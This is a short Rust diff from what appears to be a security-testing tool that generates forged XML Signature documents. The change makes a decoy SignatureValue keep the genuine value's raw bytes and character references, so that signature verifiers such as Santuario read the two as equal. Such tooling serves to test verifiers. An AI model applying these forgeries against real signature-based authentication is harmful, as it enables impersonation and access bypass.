@@ -177,8 +177,13 @@ pub fn enveloped_over_removal(f: &Forge) -> Result<Forged, Skip> {
         ));
     }
     let forged_subject = crate::family::cut(doc.src, subject.range(), edits);
+    // The value's own bytes, character references and all (Santuario writes `&#13;`): the
+    // decoy must compare equal to the genuine one as a verifier reads both.
     let value = child(sig, DSIG_NS, "SignatureValue")
-        .and_then(|v| v.text())
+        .map(|v| {
+            &doc.src[after_start_tag(doc.src, v)
+                ..before_end_tag(doc.src, v).max(after_start_tag(doc.src, v))]
+        })
         .unwrap_or_default();
     let fake = format!("<ds:Signature xmlns:ds=\"{DSIG_NS}\"><ds:SignatureValue>{value}</ds:SignatureValue>{forged_subject}</ds:Signature>");
     forged(
